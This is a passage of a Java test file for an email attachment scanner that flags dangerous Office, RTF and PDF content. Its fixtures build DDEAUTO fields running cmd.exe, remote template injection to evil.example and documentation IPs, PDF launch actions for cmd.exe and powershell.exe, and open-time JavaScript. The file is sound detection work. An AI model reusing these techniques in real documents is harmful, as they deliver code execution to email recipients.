                Finding.of("OFFICE_REMOTE_CONTENT", "a.rtf: linked object http://203.0.113.9/doc.hta"),
                Finding.of("OFFICE_REMOTE_CONTENT", "b.rtf: linked object \\\\203.0.113.9\\share\\order.docx"));
    }

    @Test
    void rtfObjectsAreReadWithinTheirBounds() throws Exception {
        // at most 16 objects a file: of 20 packaged programs, the first 16 are judged
        StringBuilder many = new StringBuilder("{\\rtf1\\ansi ");
        for (int i = 0; i < 20; i++) {
            many.append("{\\object\\objemb{\\*\\objdata ")
                    .append(hex(ole1("Package", packageNative("tool" + i + ".exe", ascii("x"))))).append("}}");
        }
        List<Finding> findings = analyze(file("many.rtf", ascii(many.append("}").toString())));
        assertThat(findings).filteredOn(f -> f.code().equals("ATTACHMENT_EXECUTABLE")).hasSize(RtfObjects.MAX_OBJECTS)
                .first().isEqualTo(Finding.of("ATTACHMENT_EXECUTABLE", "many.rtf!/tool0.exe"));
        // an object's data larger than the decoder's first buffer comes out whole, through the obfuscation
        byte[] large = new byte[200 * 1024];
        for (int i = 0; i < large.length; i++) {
            large[i] = (byte) (i * 31 + (i >>> 8));
        }
        assertThat(RtfObjects.of(rtfWithObject("Word.Document.8", obfuscated(hex(ole1("Word.Document.8", large)))),
                1024 * 1024)).singleElement().satisfies(o -> assertThat(o.nativeData()).isEqualTo(large));
        // a file larger than the buffer: its objects are read in the first part, and it says that the rest was not
        AttachmentContentAnalyzer small = new AttachmentContentAnalyzer(new ArchiveLimits(5, 1000, 100,
                200L * 1024 * 1024, 1024 * 1024));
        StringBuilder longRtf = new StringBuilder("{\\rtf1\\ansi {\\*\\objclass Equation.3}");
        while (longRtf.length() < 1536 * 1024) {
            longRtf.append("本契約の条項について協議する。\\par\r\n");
        }
        assertThat(analyze(small, mail(file("large.rtf", ascii(longRtf.append("}").toString()))), ParseLimits.defaults()))
                .containsExactly(Finding.of("OFFICE_EQUATION_EDITOR", "large.rtf: Equation.3 object"),
                        Finding.of("ATTACHMENT_NOT_INSPECTED", "large.rtf: larger than 1 MiB, objects after that not read"));
    }

    @Test
    void ordinaryRtfObjectsAreNothing() throws Exception {
        // a Word document without macros, a MathType equation (its own class), an object without data
        byte[] word = rtfWithObject("Word.Document.8", hex(ole1("Word.Document.8", sample("oletools/harmless-clean.doc"))));
        byte[] mathType = rtfWithObject("Equation.DSMT4", hex(ole1("Equation.DSMT4", new byte[32])));
        byte[] empty = rtfWithObject("Paint.Picture", "");
        assertThat(analyze(file("a.rtf", word), file("b.rtf", mathType), file("c.rtf", empty))).isEmpty();
    }

    /** A Word document as Word writes one, with {@code word/_rels/settings.xml.rels} holding {@code relationships}. */
    private static byte[] docx(String relationships) throws IOException {
        return zip("[Content_Types].xml", ascii("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
                "_rels/.rels", ascii("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                        + "relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>"),
                "word/document.xml", "<w:document>見積書の本文</w:document>".getBytes(StandardCharsets.UTF_8),
                "word/_rels/settings.xml.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + relationships + "</Relationships>").getBytes(StandardCharsets.UTF_8),
                "word/settings.xml", ascii("<w:settings/>"));
    }

    private static String template(String target) {
        return "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + "attachedTemplate\" Target=\"" + target + "\" TargetMode=\"External\"/>";
    }

    @Test
    void aTemplateFetchedFromTheNetworkIsRemoteContentInsideAnArchiveTooWithItsTargetShownSafely() throws Exception {
        byte[] injected = docx(template("https://evil.example/templates/t.dotm"));
        byte[] unc = docx(template("\\\\198.51.100.7\\share\\t.dotm"));
        byte[] hidden = docx(template("https://evil.example/\u202Emcod.txt" + "/a".repeat(150)));
        assertThat(analyze(file("見積書.docx", injected), file("order.zip", zip("order/注文書.docx", unc)),
                file("long.docx", hidden)))
                .containsExactly(
                        Finding.of("OFFICE_REMOTE_CONTENT", "見積書.docx: attachedTemplate https://evil.example/templates/t.dotm"),
                        Finding.of("OFFICE_REMOTE_CONTENT", "order.zip!/order/注文書.docx: attachedTemplate "
                                + "\\\\198.51.100.7\\share\\t.dotm"),
                        Finding.of("OFFICE_REMOTE_CONTENT", "long.docx: attachedTemplate https://evil.example/<U+202E>mcod.txt"
                                + ("/a".repeat(150)).substring(0, 200 - "https://evil.example/\u202Emcod.txt".length()) + "…"));
    }

    @Test
    void anRtfDocumentWithATemplateOnTheNetworkIsRemoteContentAndOneWithALocalTemplateIsNot() throws Exception {
        byte[] injected = ascii("{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}"
                + "{\\*\\template \\'68\\'74tp://203.0.113.9/\\u21209?\\u26360?.dotm}\\pard \\par}");
        byte[] local = ascii("{\\rtf1{\\*\\template C:\\\\Templates\\\\Normal.dotm}\\pard \\par}");
        assertThat(analyze(file("注文書.rtf", injected), file("memo.rtf", local),
                file("sample.zip", zip("in/order.rtf", injected))))
                .containsExactly(
                        Finding.of("OFFICE_REMOTE_CONTENT", "注文書.rtf: template http://203.0.113.9/務書.dotm"),
                        Finding.of("OFFICE_REMOTE_CONTENT", "sample.zip!/in/order.rtf: template http://203.0.113.9/務書.dotm"));
        // the real RTF document of oletools' test data has no template
        assertThat(analyze(file("issue_251.rtf", sample("oletools/issue_251.rtf"))))
                .noneMatch(f -> f.code().equals("OFFICE_REMOTE_CONTENT"));
    }

    @Test
    void aTemplateOnTheAuthorsDiskHyperlinksAndEmbeddedObjectsAreNoRemoteContent() throws Exception {
        byte[] normal = docx(template("file:///C:\\Users\\taro\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"));
        byte[] links = docx("<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/hyperlink\" Target=\"https://www.example.co.jp/\" TargetMode=\"External\"/>");
        assertThat(analyze(file("見積書.docx", normal), file("links.docx", links),
                file("embedded-simple-2007.docx", sample("oletools/embedded-simple-2007.docx")))).isEmpty();
        assertThat(fixtureMessage("spamassassin-target_uri.eml")).isEmpty();
    }

    @Test
    void ddeFieldsAndLinksInOletoolsDocumentsAreFound() throws Exception {
        assertThat(analyze(file("dde-test.docx", sample("oletools/dde-test.docx")),
                file("dde-test.xlsx", sample("oletools/dde-test.xlsx"))))
                .containsExactly(
                        Finding.of("OFFICE_DDE", "dde-test.docx: DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""),
                        Finding.of("OFFICE_DDE", "dde-test.xlsx: cmd|/c calc.exe"));
    }

    /** A Word document whose main part is {@code body} (inside {@code <w:body>}), content types first or last. */
    private static byte[] wordDocument(String body, boolean contentTypesFirst) throws IOException {
        byte[] types = ascii("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
        byte[] document = ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document xmlns:w="
                + "\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>" + body
                + "</w:body></w:document>").getBytes(StandardCharsets.UTF_8);
        return contentTypesFirst ? zip("[Content_Types].xml", types, "word/document.xml", document)
                : zip("word/document.xml", document, "[Content_Types].xml", types);
    }

    private static String run(String inner) {
        return "<w:r>" + inner + "</w:r>";
    }

    @Test
    void ddeHiddenInSplitRunsQuoteFieldsSimpleFieldsAndLatePackagesIsFound() throws Exception {
        String begin = run("<w:fldChar w:fldCharType=\"begin\"/>");
        String separate = run("<w:fldChar w:fldCharType=\"separate\"/>");
        String end = run("<w:fldChar w:fldCharType=\"end\"/>");
        // the keyword cut over runs, as Word itself writes an edited field
        String split = "<w:p>" + begin + run("<w:instrText>DD</w:instrText>") + run("<w:instrText xml:space=\"preserve\">"
                + "EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/c calc\"</w:instrText>") + separate
                + run("<w:t>!</w:t>") + end + "</w:p>";
        // { { QUOTE 68 68 69 } "C:\\Programs\\..." }: the keyword made by a nested field of character codes
        String quote = "<w:p>" + begin + begin + run("<w:instrText>QUOTE 68 68 69 </w:instrText>") + end
                + run("<w:instrText> c:\\\\x.exe</w:instrText>") + end + "</w:p>";
        String simple = "<w:p><w:fldSimple w:instr=\" ddeauto cmd &quot;/c calc&quot; \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>";
        assertThat(analyze(file("split.docx", wordDocument(split, true)), file("quote.docx", wordDocument(quote, true)),
                file("simple.docx", wordDocument(simple, true)),
                file("late.zip", zip("請求書.docx", wordDocument(split, false)))))
                .containsExactly(
                        Finding.of("OFFICE_DDE", "split.docx: DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/c calc\""),
                        Finding.of("OFFICE_DDE", "quote.docx: DDE c:\\\\x.exe"),
                        Finding.of("OFFICE_DDE", "simple.docx: ddeauto cmd \"/c calc\""),
                        Finding.of("OFFICE_DDE", "late.zip!/請求書.docx: DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/c calc\""));
    }

    @Test
    void aDdeFormulaInOletoolsCsvFileIsDdeAndOrdinaryCsvIsNot() throws Exception {
        assertThat(analyze(file("dde-in-csv.csv", sample("oletools/dde-in-csv.csv")),
                file("売上.csv", ascii("month,total\r\n2026-10,=SUM(B2:B9)\r\nnote,\"a|b!\"\r\n"))))
                .containsExactly(Finding.of("OFFICE_DDE",
                        "dde-in-csv.csv: cmd|/k \\..\\..\\..\\Windows\\System32\\calc.exe"));
    }

    @Test
    void ddeFieldsInWord97DocumentsInsideOletoolsPasswordZipsAreFoundOnceTheMessagesPasswordOpensThem() throws Exception {
        // the zips' password is given in the message (PPAP); each holds a Word 97-2003 document with a DDEAUTO field,
        // its text 8-bit in one and UTF-16 in the other
        String body = "資料を送付いたします。\r\nパスワード：infected-test\r\n";
        assertThat(analyze(mailWithBody("text/plain", body,
                file("dde.zip", sample("oletools/dde-test-from-office2016.doc.zip")),
                file("korean.zip", sample("oletools/dde-test-from-office2013-utf_16le-korean.doc.zip")))))
                .filteredOn(f -> f.code().equals("OFFICE_DDE"))
                .containsExactly(
                        Finding.of("OFFICE_DDE", "dde.zip!/dde-test-from-office2016.doc: DDEAUTO "
                                + "c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""),
                        Finding.of("OFFICE_DDE", "korean.zip!/dde-test-from-office2013-utf_16le-korean.doc: DDEAUTO "
                                + "c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""));
        assertThat(analyze(file("harmless-clean.doc", sample("oletools/harmless-clean.doc")))).isEmpty();
    }

    @Test
    void aDdeFieldOfAWordDocumentEmbeddedAsAStorageIsFound() throws Exception {
        // oletools' DDE document embedded in its harmless one as Word embeds a document: its streams in ObjectPool/_<id>
        byte[] dde;
        try (net.lingala.zip4j.io.inputstream.ZipInputStream zip = new net.lingala.zip4j.io.inputstream.ZipInputStream(
                new ByteArrayInputStream(sample("oletools/dde-test-from-office2016.doc.zip")), "infected-test".toCharArray())) {
            zip.getNextEntry();
            dde = zip.readAllBytes();
        }
        byte[] doc;
        try (org.apache.poi.poifs.filesystem.POIFSFileSystem outer = new org.apache.poi.poifs.filesystem.POIFSFileSystem(
                new ByteArrayInputStream(sample("oletools/harmless-clean.doc")));
             org.apache.poi.poifs.filesystem.POIFSFileSystem inner = new org.apache.poi.poifs.filesystem.POIFSFileSystem(
                new ByteArrayInputStream(dde))) {
            org.apache.poi.poifs.filesystem.DirectoryEntry pool = outer.getRoot().hasEntry("ObjectPool")
                    ? (org.apache.poi.poifs.filesystem.DirectoryEntry) outer.getRoot().getEntry("ObjectPool")
                    : outer.getRoot().createDirectory("ObjectPool");
            org.apache.poi.poifs.filesystem.EntryUtils.copyNodes(inner.getRoot(), pool.createDirectory("_1559052431"));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            outer.writeFilesystem(out);
            doc = out.toByteArray();
        }
        assertThat(analyze(file("議事録.doc", doc))).containsExactly(Finding.of("OFFICE_DDE",
                "議事録.doc: DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""));
    }

    @Test
    void aDdeLinkOfABinaryWorkbookAndAnExcel4MacroSheetInSylkAreFound() throws Exception {
        assertThat(analyze(file("dde-test.xlsb", sample("oletools/dde-test.xlsb")),
                file("sample.slk", sample("oletools/excel4_sample_macro.slk"))))
                .containsExactly(
                        Finding.of("OFFICE_DDE", "dde-test.xlsb: cmd|/c calc.exe"),
                        Finding.of("OFFICE_MACRO", "sample.slk: Excel 4 macro sheet (SYLK)"));
        // a SYLK sheet of plain values, and an options record without the macro-sheet field
        byte[] values = ascii("ID;PWXL;N;E\r\nO;L;D;V0;K47;G100 0.001\r\nC;Y1;X1;K42\r\nC;Y2;X1;K\"E\"\r\nE\r\n");
        assertThat(analyze(file("values.slk", values))).isEmpty();
    }

    @Test
    void ddeInOfficesFlatXmlDocumentsIsFound() throws Exception {
        // Word 2003 XML and Word's flat OPC package (in oletools' password zips) and Excel 2003 XML: one XML text each,
        // which Word and Excel open whatever the file is called
        String body = "資料を送付いたします。\r\nパスワード：infected-test\r\n";
        assertThat(analyze(mailWithBody("text/plain", body,
                file("word2003.zip", sample("oletools/dde-in-word2003.xml.zip")),
                file("word2007.zip", sample("oletools/dde-in-word2007.xml.zip")),
                file("集計.xml", sample("oletools/dde-in-excel2003.xml")))))
                .filteredOn(f -> f.code().equals("OFFICE_DDE"))
                .containsExactly(
                        Finding.of("OFFICE_DDE", "word2003.zip!/dde-in-word2003.xml: DDEAUTO "
                                + "c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""),
                        Finding.of("OFFICE_DDE", "word2007.zip!/dde-in-word2007.xml: DDEAUTO "
                                + "c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""),
                        Finding.of("OFFICE_DDE", "集計.xml: cmd|/c calc.exe"));
        assertThat(analyze(file("a.xml", sample("oletools/harmless-clean-2003.xml")),
                file("b.xml", sample("oletools/harmless-clean.xml")))).isEmpty();
    }

    @Test
    void aVbaProjectInAFlatXmlDocumentIsAnOfficeMacro() throws Exception {
        byte[] word2003 = ascii("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Word.Document\"?>\n"
                + "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:docSuppData>"
                + "<w:binData w:name=\"editdata.mso\">QWN0aXZlTWltZQ==</w:binData></w:docSuppData><w:body/></w:wordDocument>");
        assertThat(analyze(file("請求書.doc", word2003))).contains(Finding.of("OFFICE_MACRO", "請求書.doc"));
    }

    @Test
    void ordinaryFieldsAndTheWordDdeInTextAreNoDde() throws Exception {
        String page = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE \\\\* MERGEFORMAT "
                + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
                + "<w:r><w:t>DDE と DDEAUTO の説明</w:t></w:r></w:p>"
                + "<w:p><w:fldSimple w:instr=\" HYPERLINK &quot;https://www.example.co.jp/&quot; \"/></w:p>"
                + "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 72 73</w:instrText></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        assertThat(analyze(file("manual.docx", wordDocument(page, true)),
                file("harmless-clean.docx", sample("oletools/harmless-clean.docx")))).isEmpty();
    }

    @Test
    void spamAssassinsMacroWorkbookIsAnOfficeMacro() throws Exception {
        assertThat(fixtureMessage("spamassassin-macro.eml")).containsExactly(Finding.of("OFFICE_MACRO", "macro.xlsm"));
    }

    @Test
    void aMacroWorkbookRenamedAsAJpegIsBothAMacroAndAMismatch() throws Exception {
        assertThat(fixtureMessage("spamassassin-renamedmacro.eml")).containsExactly(
                Finding.of("ATTACHMENT_TYPE_MISMATCH", "renamed.jpg: named .jpg, content is application/x-tika-ooxml"),
                Finding.of("OFFICE_MACRO", "renamed.jpg"));
    }

    @Test
    void rtfUnderAWordExtensionIsDisguisedButUnderItsOwnNameIsNot() throws Exception {
        byte[] rtf = sample("oletools/issue_251.rtf");

        // (oletools' sample is an Equation Editor exploit as well, whatever its name)
        assertThat(analyze(file("見積書.doc", rtf), file("memo.rtf", rtf)))
                .containsExactly(Finding.of("RTF_DISGUISED", "見積書.doc"),
                        Finding.of("OFFICE_EQUATION_EDITOR", "見積書.doc: equation.3 object"),
                        Finding.of("OFFICE_EQUATION_EDITOR", "memo.rtf: equation.3 object"));
    }

    // ---- encryption -----------------------------------------------------------------------------------------

    @Test
    void passwordProtectedOfficeFilesAreEncrypted() throws Exception {
        assertThat(analyze(file("encrypted.doc", sample("oletools/encrypted.doc")),
                file("encrypted.xls", sample("oletools/encrypted.xls")),
                file("encrypted.ppt", sample("oletools/encrypted.ppt")),
                file("encrypted.docx", sample("oletools/encrypted.docx"))))
                .containsExactly(
                        Finding.of("ENCRYPTED_ARCHIVE", "encrypted.doc (part 2)"),
                        Finding.of("ENCRYPTED_ARCHIVE", "encrypted.xls (part 3)"),
                        Finding.of("ENCRYPTED_ARCHIVE", "encrypted.ppt (part 4)"),
                        Finding.of("ENCRYPTED_ARCHIVE", "encrypted.docx (part 5)"));
    }

    @Test
    void documentsEncryptedWithExcelsDefaultPasswordAreReadAsOfficeReadsThem() throws Exception {
        // Office opens them without asking (VelvetSweatshop): no encrypted document for the reader, and what they hide
        // from scanners that stop at the encryption is found: macros, Excel 4 macro sheets, DDE links
        assertThat(analyze(file("autostart.xls", sample("oletools/autostart-encrypt-standardpassword.xls")),
                file("autostart.xlsm", sample("oletools/autostart-encrypt-standardpassword.xlsm")),
                file("dde.xls", sample("oletools/dde-test-encrypt-standardpassword.xls")),
                file("dde.xlsx", sample("oletools/dde-test-encrypt-standardpassword.xlsx"))))
                .containsExactly(
                        Finding.of("OFFICE_MACRO", "autostart.xls"),
                        Finding.of("OFFICE_MACRO", "autostart.xlsm"),
                        Finding.of("OFFICE_DDE", "dde.xls: cmd /c calc.exe"),
                        Finding.of("OFFICE_DDE", "dde.xlsx: cmd|/c calc.exe"));
        // the same workbook's DDE link without the encryption (POI writes the decrypted workbook out as it is)
        byte[] plain;
        try (org.apache.poi.hssf.usermodel.HSSFWorkbook wb = new org.apache.poi.hssf.usermodel.HSSFWorkbook(
                new ByteArrayInputStream(sample("oletools/dde-test-encrypt-standardpassword.xls")))) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            wb.write(out);
            plain = out.toByteArray();
        }
        assertThat(OleInspection.inspect(plain).encrypted()).isFalse();
        assertThat(analyze(file("dde.xls", plain))).containsExactly(Finding.of("OFFICE_DDE", "dde.xls: cmd /c calc.exe"));

        // the message's passwords are tried first; none opens the workbook, and Excel's default password still does
        assertThat(analyze(mailWithBody("text/plain", "password: Abc12345",
                file("autostart.xlsm", sample("oletools/autostart-encrypt-standardpassword.xlsm")))))
                .containsExactly(Finding.of("OFFICE_MACRO", "autostart.xlsm"));
    }

    // ---- PDF active content and files embedded in PDFs ------------------------------------------------------

    /** A one-page PDF written by PDFBox, {@code setUp} adding what the test needs. */
    private static byte[] pdf(PdfSetUp setUp) throws Exception {
        try (org.apache.pdfbox.pdmodel.PDDocument doc = new org.apache.pdfbox.pdmodel.PDDocument()) {
            doc.addPage(new org.apache.pdfbox.pdmodel.PDPage());
            setUp.apply(doc);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.save(out);
            return out.toByteArray();
        }
    }

    private interface PdfSetUp {
        void apply(org.apache.pdfbox.pdmodel.PDDocument doc) throws Exception;
    }

    /** A PDF whose EmbeddedFiles name tree holds {@code name} with {@code data}. */
    private static byte[] pdfWithFile(String name, byte[] data) throws Exception {
        return pdf(doc -> {
            var spec = new org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification();
            spec.setFile(name);
            spec.setFileUnicode(name);
            var file = new org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile(doc,
                    new ByteArrayInputStream(data));
            spec.setEmbeddedFile(file);
            spec.setEmbeddedFileUnicode(file);
            var tree = new org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode();
            tree.setNames(java.util.Map.of(name, spec));
            var names = new org.apache.pdfbox.pdmodel.PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            doc.getDocumentCatalog().setNames(names);
        });
    }

    @Test
    void javascriptThatRunsOnOpeningAndLaunchActionsInPdfsAreFound() throws Exception {
        byte[] onOpen = pdf(doc -> doc.getDocumentCatalog().setOpenAction(
                new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript("this.exportDataObject({})")));
        byte[] script = pdf(doc -> {
            var tree = new org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode();
            tree.setNames(java.util.Map.of("init",
                    new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript("app.launchURL('x')")));
            var names = new org.apache.pdfbox.pdmodel.PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setJavascript(tree);
            doc.getDocumentCatalog().setNames(names);
        });
        byte[] launch = pdf(doc -> {
            var action = new org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch();
            var file = new org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification();
            file.setFile("cmd.exe");
            action.setFile(file);
            var link = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink();
            link.setAction(action);
            doc.getPage(0).getAnnotations().add(link);
        });
        assertThat(analyze(file("a.pdf", onOpen), file("b.pdf", script), file("請求書.pdf", launch))).containsExactly(
                Finding.of("PDF_JAVASCRIPT", "a.pdf: open action"),
                Finding.of("PDF_JAVASCRIPT", "b.pdf: document script \"init\""),
                Finding.of("PDF_LAUNCH_ACTION", "請求書.pdf: cmd.exe"));
    }

    /** A PDF whose first page has a form widget with the additional actions {@code setUp} gives it. */
    private static byte[] pdfWithWidget(
            java.util.function.Consumer<org.apache.pdfbox.pdmodel.interactive.action.PDAnnotationAdditionalActions> setUp)
            throws Exception {
        return pdf(doc -> {
            var widget = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget();
            var actions = new org.apache.pdfbox.pdmodel.interactive.action.PDAnnotationAdditionalActions();
            setUp.accept(actions);
            widget.getCOSObject().setItem(org.apache.pdfbox.cos.COSName.AA, actions);
            doc.getPage(0).getAnnotations().add(widget);
        });
    }

    /** A PDF whose open action is "go to page 1", chaining ({@code /Next}) to {@code next}, or to itself when null. */
    private static byte[] pdfGoingToPageOne(org.apache.pdfbox.pdmodel.interactive.action.PDAction next) throws Exception {
        return pdf(doc -> {
            var goTo = new org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo();
            var page = new org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination();
            page.setPage(doc.getPage(0));
            goTo.setDestination(page);
            goTo.setNext(List.of(next == null ? goTo : next));
            doc.getDocumentCatalog().setOpenAction(goTo);
        });
    }

    @Test
    void javascriptOfPageActionsOfAnnotationsShownWithThePageAndBehindChainedActionsIsFound() throws Exception {
        // a harmless "go to page 1" as the open action, chaining (/Next) to a script
        byte[] chained = pdfGoingToPageOne(new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript("app.alert(1)"));
        byte[] pageOpen = pdf(doc -> {
            var actions = new org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions();
            actions.setO(new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript("this.submitForm('x')"));
            doc.getPage(0).setActions(actions);
        });
        byte[] visible = pdfWithWidget(actions -> actions.setPV(
                new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript("app.launchURL('x')")));
        // a link to a web page that chains to launching a program
        byte[] launch = pdf(doc -> {
            var uri = new org.apache.pdfbox.pdmodel.interactive.action.PDActionURI();
            uri.setURI("https://example.com/");
            var run = new org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch();
            var file = new org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification();
            file.setFile("powershell.exe");
            run.setFile(file);
            uri.setNext(List.of(run));
            var link = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink();
            link.setAction(uri);
            doc.getPage(0).getAnnotations().add(link);
        });
        assertThat(analyze(file("a.pdf", chained), file("b.pdf", pageOpen), file("c.pdf", visible), file("d.pdf", launch)))
                .containsExactly(
                        Finding.of("PDF_JAVASCRIPT", "a.pdf: open action"),
                        Finding.of("PDF_JAVASCRIPT", "b.pdf: page 1 open or close action"),
                        Finding.of("PDF_JAVASCRIPT", "c.pdf: annotation on page 1 (page open or visible)"),
                        Finding.of("PDF_LAUNCH_ACTION", "d.pdf: powershell.exe"));
    }

    @Test
    void aFieldScriptThatRunsOnAClickAndAnActionChainThatLoopsAreNothing() throws Exception {
        byte[] click = pdfWithWidget(actions -> actions.setU(
                new org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript("this.print()")));
        byte[] loop = pdfGoingToPageOne(null);
        assertThat(analyze(file("form.pdf", click), file("loop.pdf", loop))).isEmpty();
    }

    /**
     * A PDF with an XFA form (as Adobe LiveCycle Designer writes one) whose template holds {@code fields}; as one
     * stream, or as the packet array (preamble, template, postamble) when {@code packets}.
     */
    private static byte[] pdfWithXfa(String fields, boolean packets) throws Exception {
        String head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">";
        String template = "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform name=\"form1\">"
                + fields + "</subform></template>";
        String tail = "</xdp:xdp>";
        return packets ? pdfWithXfaPackets(head, template, tail) : pdfWithXfaPackets(head + template + tail);
    }

    /** A PDF whose form's XFA is {@code xml}, one stream, or the packet array of three (preamble, template, postamble). */
    private static byte[] pdfWithXfaPackets(String... xml) throws Exception {
        return pdf(doc -> {
            var form = new org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm(doc);
            org.apache.pdfbox.cos.COSBase xfa;
            if (xml.length == 1) {
                xfa = xfaStream(doc, xml[0]);
            } else {
                var array = new org.apache.pdfbox.cos.COSArray();
                String[] names = {"preamble", "template", "postamble"};
                for (int i = 0; i < xml.length; i++) {
                    array.add(new org.apache.pdfbox.cos.COSString(names[i]));
                    array.add(xfaStream(doc, xml[i]));
                }
                xfa = array;
            }
            form.getCOSObject().setItem(org.apache.pdfbox.cos.COSName.XFA, xfa);
            doc.getDocumentCatalog().setAcroForm(form);
        });
    }

    private static org.apache.pdfbox.cos.COSStream xfaStream(org.apache.pdfbox.pdmodel.PDDocument doc, String xml)
            throws IOException {
        var stream = doc.getDocument().createCOSStream();
        try (var out = stream.createOutputStream(org.apache.pdfbox.cos.COSName.FLATE_DECODE)) {
            out.write(xml.getBytes(StandardCharsets.UTF_8));
        }
        return stream;
    }

    private static String xfaEvent(String activity, String attributes, String script) {
        return "<field name=\"f\"><event activity=\"" + activity + "\"><script" + attributes + ">" + script
                + "</script></event></field>";
    }

    @Test
    void javascriptOfAnXfaFormThatRunsAsTheFormOpensClosesOrPrintsIsFound() throws Exception {
        String js = " contentType=\"application/x-javascript\"";
        byte[] docReady = pdfWithXfa("<event activity=\"docReady\" ref=\"$host\"><script" + js
                + ">app.launchURL(\"https://evil.example/\");</script></event>", false);
        // a calculation first (not counted), then an initialisation in the template packet of a packet array
        byte[] initialize = pdfWithXfa(xfaEvent("calculate", js, "this.rawValue = 1;")
                + xfaEvent("initialize", js + " runAt=\"both\"", "<![CDATA[var s = util.stringFromStream(x);]]>"), true);
        byte[] print = pdfWithXfa(xfaEvent("prePrint", js, "xfa.host.messageBox('x');"), false);
        assertThat(analyze(file("a.pdf", docReady), file("b.pdf", initialize), file("c.pdf", print))).containsExactly(
                Finding.of("PDF_JAVASCRIPT", "a.pdf: XFA form script (docReady)"),
                Finding.of("PDF_JAVASCRIPT", "b.pdf: XFA form script (initialize)"),
                Finding.of("PDF_JAVASCRIPT", "c.pdf: XFA form script (prePrint)"));
    }

    @Test
    void xfaFormsWithCalculationsClickScriptsFormCalcOrServerScriptsAndDamagedXfaAreNothing() throws Exception {
        String js = " contentType=\"application/x-javascript\"";
        // what a tax office's LiveCycle form has: totals, validations and buttons in JavaScript, an empty initialize
        byte[] form = pdfWithXfa(xfaEvent("calculate", js, "this.rawValue = a.rawValue + b.rawValue;")
                + xfaEvent("validate", js, "this.rawValue > 0;") + xfaEvent("click", js, "xfa.host.print(1);")
                + xfaEvent("initialize", js, "  "), true);
        // FormCalc (XFA's default language, no contentType) and a script only a form server runs
        byte[] formCalc = pdfWithXfa(xfaEvent("initialize", "", "$ = Sum(a, b)")
                + xfaEvent("docReady", js + " runAt=\"server\"", "xfa.form.recalculate(1);"), false);
        // a DTD whose entities would expand (refused, not expanded), and XML cut off as its script begins
        byte[] entities = pdfWithXfaPackets("<?xml version=\"1.0\"?>"
                + "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>"
                + "<x><event activity=\"docReady\"><script" + js + ">&b;</script></event></x>");
        byte[] cut = pdfWithXfaPackets("<x><event activity=\"docReady\"><scr");
        assertThat(analyze(file("form.pdf", form), file("calc.pdf", formCalc), file("dtd.pdf", entities),
                file("cut.pdf", cut))).isEmpty();
    }

    @Test
    void filesEmbeddedInPdfsAreInspected() throws Exception {
